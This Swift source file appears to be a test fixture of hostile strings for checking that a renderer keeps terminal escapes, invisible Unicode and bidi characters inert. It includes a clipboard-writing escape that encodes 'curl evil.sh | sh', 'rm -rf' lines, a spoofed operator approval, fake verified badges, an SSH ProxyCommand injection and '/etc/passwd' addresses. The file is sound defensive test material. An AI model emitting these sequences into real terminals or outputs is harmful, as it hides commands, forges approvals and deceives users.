/// Text that tries to act on a terminal, to hide, or to break out of its place.
///
/// Tests take an index as their argument: a runner prints arguments, and these must not be printed.
public enum HostileText {
    /// One string for each way that is known; `corpus` first.
    public static let all: [String] = corpus.map(\.text) + more

    /// A named string, and what must come of it beside being inert.
    public struct Sample: Sendable {
        /// What it tries.
        public let name: String
        public let text: String
        /// Words of it that must stay readable, in this order.
        public let readable: [String]

        init(_ name: String, _ text: String, readable: String...) {
            self.name = name
            self.text = text
            self.readable = readable
        }

        init(_ name: String, bytes: [UInt8], readable: String...) {
            self.name = name
            text = String(decoding: bytes, as: UTF8.self)
            self.readable = readable
        }
    }

    /// The families of terminal escapes, of Unicode's invisible and two-way characters, and of widths.
    public static let corpus: [Sample] = [
        Sample(
            "cursor up and erase", "ok\u{1b}[10A\u{1b}[2KApproved by operator", readable: "ok",
            "[10A", "[2KApproved by operator"),
        Sample("leaves the alternate screen", "\u{1b}[?1049l$ rm -rf ~", readable: "[?1049l$ rm"),
        Sample(
            "asks the terminal", "\u{1b}[c\u{1b}[>c\u{1b}[=c\u{1b}[5n\u{1b}[?1$p", readable: "[c",
            "[>c", "[=c", "[5n", "[?1$p"),
        Sample("prints", "\u{1b}[5iprinted?\u{1b}[4i", readable: "printed?"),
        Sample(
            "a parameter list of 200,000 bytes",
            "\u{1b}[" + String(repeating: "1;", count: 100_000) + "m", readable: "[1;1;"),
        Sample(
            "scroll region, insert, newline and origin modes",
            "\u{1b}[1;1r\u{1b}[4h\u{1b}[20h\u{1b}[?6h", readable: "[1;1r", "[4h"),
        Sample(
            "alignment pattern and line drawing", "\u{1b}#8\u{1b}(0lqqqk\u{1b}(B",
            readable: "#8", "(0lqqqk", "(B"),
        Sample(
            "writes the clipboard", "\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2gK\u{7}",
            readable: "]52;c;Y3Vyb"),
        Sample(
            "closes a link early", "[x](https://e.example/\u{1b}\\\u{1b}[2J)",
            readable: "[x](https://e.example/", "[2J)"),
        Sample(
            "sends a file", "\u{1b}]1337;File=name=eC5zaA==;inline=0:QUFB\u{7}",
            readable: "]1337;File="),
        Sample(
            "ends a string by CAN and SUB", "\u{1b}]52;c;QUFB\u{18}\u{1b}]52;c;QUFB\u{1a}",
            readable: "]52;c;QUFB", "]52;c;QUFB"),
        Sample(
            "names a window", "\u{1b}kfake-window-name\u{1b}\\", readable: "kfake-window-name"),
        Sample(
            "strings without an end", "\u{1b}^secret\u{1b}\\\u{1b}Xstuff", readable: "^secret",
            "Xstuff"),
        Sample("C1 controls", "\u{9d}52;c;QUFB\u{9c}", readable: "52;c;QUFB"),
        Sample(
            "carriage return", "rm -rf / # dangerous\recho hello          ",
            readable: "rm -rf / # dangerous", "echo hello"),
        Sample("hides behind NUL", "visible\u{0}HIDDEN TAIL", readable: "visible", "HIDDEN TAIL"),
        Sample(
            "a second record", "done\n2026-01-01T00:00:00Z INFO operator approved task 7",
            readable: "done", "2026-01-01"),
        Sample("escapes within an escape", "\u{1b}\u{1b}[[2J", readable: "[[2J"),
        Sample("the rest of a sequence", "[2Jpart2", readable: "[2Jpart2"),
        Sample("surrogates as bytes", bytes: [0xED, 0xA0, 0xBD, 0xED, 0xB8, 0x80]),
        Sample(
            "Latin 1 bytes", bytes: Array("caf".utf8) + [0xE9] + Array(" latin1".utf8),
            readable: "caf", "latin1"),
        Sample("direction marks", "\u{200e}\u{200f}\u{61c}x", readable: "x"),
        Sample(
            "invisible joiners", "a\u{200d}b\u{200c}c\u{2060}d\u{feff}e", readable: "a", "b", "c",
            "d", "e"),
        Sample("line and paragraph ends", "a\u{2028}b\u{2029}c", readable: "a", "b", "c"),
        Sample("a family", "\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}\u{200d}\u{1f466}|"),
        Sample("skin tones", "\u{1f44d}\u{1f3fd}|\u{1f9d1}\u{1f3fb}\u{200d}\u{1f4bb}|"),
        Sample("wide to the edge", String(repeating: "\u{6f22}", count: 40)),
        Sample("Indic and Thai clusters", "\u{0915}\u{094d}\u{0937}\u{093f}|\u{0e01}\u{0e33}|"),
        Sample("characters that are none", "\u{fffe}\u{ffff}\u{1ffff}|", readable: "|"),
        Sample(
            "looks like our own badge", "\u{25cf} finance  ONLINE  rep 150  \u{2714} verified",
            readable: "finance", "verified"),
        Sample("escaped twice", #"\u001b[2J"#, readable: #"\u001b[2J"#),
        Sample(
            "addresses to open", "file:///etc/passwd ssh://-oProxyCommand=x/ javascript:1",
            readable: "file:///etc/passwd", "javascript:1"),
    ]

    private static let more: [String] = [
        "\u{9d}52;c;QUFB\u{9c}\u{9b}2J\u{85}", "done\r\nsecond", "a\tb\u{8}\u{8}c\u{7f}",
        "user\u{202e}gpj.exe\u{202c}", "\u{2066}a\u{2069}b\u{2067}",
        "a\u{200d}b\u{200c}c\u{2060}d\u{feff}e\u{200b}f\u{180e}g\u{ad}h",
        "🇳🇱🇩|", "❤️|☂︎|1️⃣|", "क्षि|กำ|각|각|",
        "\u{fffe}\u{ffff}\u{1ffff}|\u{10ffff}\u{e000}",
        "\u{301}\u{301}leading", "Z\u{300}\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}!",
        "x\u{fe00}\u{fe01}\u{fe02}\u{fe03}y\u{e0100}\u{e0101}",
        "🏴\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}!",
        "\u{3164}\u{115f}\u{1160}\u{ffa0}",
        "\u{fff9}a\u{fffa}b\u{fffb}", "\u{200d}", "\u{fe0f}", "", " ", "\u{a0}\u{3000}\u{2003}|",
    ]
}
